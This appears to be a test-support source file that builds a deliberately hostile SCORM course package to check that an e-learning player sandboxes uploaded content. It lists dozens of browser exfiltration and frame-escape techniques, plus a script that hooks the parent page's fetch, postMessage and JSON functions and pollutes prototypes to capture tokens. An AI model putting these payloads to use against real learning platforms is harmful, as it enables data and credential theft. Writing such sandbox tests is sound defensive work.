// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are those of scripts that run in the package.
import { buildCourseZip } from '../../apps/server/src/test-support/zip.ts';
import type { OutsideHost } from './outside-host.ts';

/**
 * Ways out of a package, by name, as statements that run in the package. `at(name)` is an outside address that records
 * the name. `add(document, tag, attributes)` adds an element. `within(url, use)` opens a frame and passes its window to
 * `use`.
 */
export const waysOut: Record<string, string> = {
  fetch: 'fetch(at("fetch"), { mode: "no-cors" })',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send()',
  beacon: 'navigator.sendBeacon(at("beacon"), "x")',
  socket: 'new WebSocket(at("socket").replace("http", "ws"))',
  events: 'new EventSource(at("events"))',
  image: 'new Image().src = at("image")',
  script: 'add(document, "script", { src: at("script") })',
  style: 'add(document, "link", { rel: "stylesheet", href: at("style") })',
  background: 'add(document, "p", { style: `background: url(${at("background")})` })',
  font: 'add(document, "style", { textContent: `@font-face { font-family: f; src: url(${at("font")}) } p { font-family: f }` })',
  video: 'add(document, "video", { src: at("video") })',
  object: 'add(document, "object", { data: at("object") })',
  embed: 'add(document, "embed", { src: at("embed") })',
  frame: 'add(document, "iframe", { src: at("frame") })',
  form: 'const f = add(document, "form", { action: at("form"), target: add(document, "iframe", { name: "t" }).name }); f.submit()',
  ping: 'add(document, "a", { href: "#here", ping: at("ping") }).click()',
  newWindow: 'open(at("newWindow"))',
  blankTarget: 'add(document, "a", { href: at("blankTarget"), target: "_blank" }).click()',
  prefetch: 'add(document, "link", { rel: "prefetch", href: at("prefetch") })',
  preload: 'add(document, "link", { rel: "preload", as: "fetch", href: at("preload") })',
  modulePreload: 'add(document, "link", { rel: "modulepreload", href: at("modulePreload") })',
  prerender: 'add(document, "link", { rel: "prerender", href: at("prerender") })',
  speculation:
    'add(document, "script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [at("speculation")] }], prerender: [{ source: "list", urls: [at("speculation")] }] }) })',
  worker: 'new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at("worker"))}, { mode: "no-cors" })`])))',
  refresh: 'add(document, "iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${at("refresh")}">` })',
  sourceDocument: 'add(document, "iframe", { srcdoc: `<img src="${at("sourceDocument")}">` })',
  dataDocument: 'add(document, "iframe", { src: `data:text/html,<img src="${at("dataDocument")}">` })',
  blobDocument:
    'add(document, "iframe", { src: URL.createObjectURL(new Blob([`<img src="${at("blobDocument")}">`], { type: "text/html" })) })',
  emptyFrame: 'add(document, "iframe", {}).contentWindow.fetch(at("emptyFrame"), { mode: "no-cors" })',
  webrtc: 'rtc(window.RTCPeerConnection)',
  missingFile: 'within(new URL("none.html", location).href, (w) => w.fetch(at("missingFile"), { mode: "no-cors" }))',
  unsignedFile: 'within("/v/none/none.html", (w) => w.fetch(at("unsignedFile"), { mode: "no-cors" }))',
  playerScript: 'within("/player.js", (w) => w.fetch(at("playerScript"), { mode: "no-cors" }))',
  otherPage: 'within("/none", (w) => w.fetch(at("otherPage"), { mode: "no-cors" }))',
  appPage: 'within("/", (w) => w.fetch(at("appPage"), { mode: "no-cors" }))',
  emptyAnswer: 'within("/commit", (w) => w.fetch(at("emptyAnswer"), { mode: "no-cors" }))',
  parentFetch: 'parent.fetch(at("parentFetch"), { mode: "no-cors" })',
  parentBeacon: 'parent.navigator.sendBeacon(at("parentBeacon"), "x")',
  parentXhr: 'const x = new parent.XMLHttpRequest(); x.open("GET", at("parentXhr")); x.send()',
  parentSocket: 'new parent.WebSocket(at("parentSocket").replace("http", "ws"))',
  parentImage: 'new parent.Image().src = at("parentImage")',
  parentEval: 'parent.eval(`fetch(${JSON.stringify(at("parentEval"))}, { mode: "no-cors" })`)',
  parentTimer: 'parent.setTimeout(`fetch(${JSON.stringify(at("parentTimer"))}, { mode: "no-cors" })`, 0)',
  parentElement: 'add(parent.document, "img", { src: at("parentElement") })',
  parentScript: 'add(parent.document, "script", { src: at("parentScript") })',
  parentInlineScript:
    'add(parent.document, "script", { textContent: `fetch(${JSON.stringify(at("parentInlineScript"))}, { mode: "no-cors" })` })',
  parentStyle: 'add(parent.document, "style", { textContent: `@import url(${at("parentStyle")})` })',
  parentFrame: 'add(parent.document, "iframe", { src: at("parentFrame") })',
  parentEmptyFrame:
    'add(parent.document, "iframe", {}).contentWindow.fetch(at("parentEmptyFrame"), { mode: "no-cors" })',
  parentForm: 'const f = add(parent.document, "form", { action: at("parentForm") }); f.target = "_blank"; f.submit()',
  parentPrefetch: 'add(parent.document, "link", { rel: "prefetch", href: at("parentPrefetch") })',
  parentOpen: 'parent.open(at("parentOpen"))',
  parentWebrtc: 'rtc(parent.RTCPeerConnection)',
  topNavigation: 'top.location.href = at("topNavigation")',
};

const helpers = (outside: OutsideHost) => `
  const at = (name) => ${JSON.stringify(outside.address)} + '/' + name;
  const add = (where, tag, attributes) => {
    const element = where.createElement(tag);
    for (const [name, value] of Object.entries(attributes))
      if (name in element) element[name] = value; else element.setAttribute(name, value);
    where.body.append(element);
    return element;
  };
  const within = (url, use) => { const frame = add(document, 'iframe', { src: url }); frame.onload = () => use(frame.contentWindow); };
  const rtc = async (Connection) => {
    const connection = new Connection({ iceServers: [{ urls: 'stun:127.0.0.1:${outside.port}' }] });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
  };`;

/** Ways out that end the course when they are stopped. Each is a button of the package. */
export const lastWaysOut: Record<string, string> = {
  navigation: 'location.href = at("navigation")',
  download: 'add(document, "a", { href: at("download"), download: "x" }).click()',
  parentNavigation: 'parent.location.href = at("parentNavigation")',
  parentDownload: 'add(parent.document, "a", { href: at("parentDownload"), download: "x" }).click()',
};

/** Uses WebRTC of an empty frame, which no script removes. The browser then ends the process of the page. */
export const wayIntoTheEnd = 'emptyFrameWebrtc';

/** Script that collects into `window.learned` what the package can read or intercept. */
const eavesdropping = `
  window.learned = [];
  const learn = (...things) => { for (const thing of things) try { learned.push(typeof thing === 'string' ? thing : JSON.stringify(thing)); } catch {} };
  for (let from = window; from !== top; from = from.parent) try { learn(from.location.href, from.document.documentElement.outerHTML); } catch {}
  try {
    parent.addEventListener('message', (event) => learn(event.data), true);
    for (const name of ['fetch', 'postMessage']) { const real = parent[name]; parent[name] = function (...all) { learn(...all.map((one) => one?.body ?? one)); return real.apply(parent, all); }; }
    const stringify = parent.JSON.stringify; parent.JSON.stringify = function (value) { learn(stringify(value)); return stringify.apply(this, arguments); };
    const beacon = parent.Navigator.prototype.sendBeacon; parent.Navigator.prototype.sendBeacon = function (...all) { learn(...all); return beacon.apply(this, all); };
    Object.defineProperty(parent.Object.prototype, 'toJSON', { configurable: true, get() { learn(Object.entries(this).flat().join()); return undefined; } });
    for (const name of ['referrer', 'window', 'cache', 'integrity'])
      Object.defineProperty(parent.Object.prototype, name, { configurable: true, get() { learn(String(this.body), String(this.token)); return undefined; } });
    Object.defineProperty(parent, 'parent', { value: { postMessage: (message) => learn(message) } });
    for (const name of ['map', 'join', 'push', 'slice']) { const real = parent.Array.prototype[name]; parent.Array.prototype[name] = function (...all) { learn(...all, ...[...this].filter((one) => typeof one === 'string')); return real.apply(this, all); }; }
  } catch (error) { learn(String(error)); }`;

/** Builds a SCORM 1.2 package that tries all ways out and then saves. Its buttons try the last ways out. */
export function buildHostilePackage(outside: OutsideHost): Promise<Buffer> {
  const tries = Object.entries(waysOut).map(
    ([name, way]) =>
      `(() => { try { ${way.replaceAll('<', '\\x3c')}; } catch {} tried.push(${JSON.stringify(name)}); })();`,
  );
  const end = { [wayIntoTheEnd]: 'rtc(add(document, "iframe", {}).contentWindow.RTCPeerConnection)' };
  const buttons = Object.entries({ ...lastWaysOut, ...end }).map(
    ([name, way]) => `<button onclick='${way}'>${name}</button>`,
  );
  const page = `<!doctype html><title>Hostile</title><body><h1>Hostile</h1>${buttons.join('')}<script>
    var tried = [];
    const API = parent.API;
    API.LMSInitialize('');
    API.LMSSetValue('cmi.core.lesson_status', 'incomplete');
    ${eavesdropping}
    ${helpers(outside)}
    window.addEventListener('unhandledrejection', (event) => event.preventDefault());
    ${tries.join('\n')}
    API.LMSSetValue('cmi.suspend_data', tried.join());
    API.LMSSetValue('cmi.core.lesson_location', 'tried');
    API.LMSCommit('');
    </script></body>`;
  return buildCourseZip([{ identifier: 'hostile' }], { 'index.html': page });
}
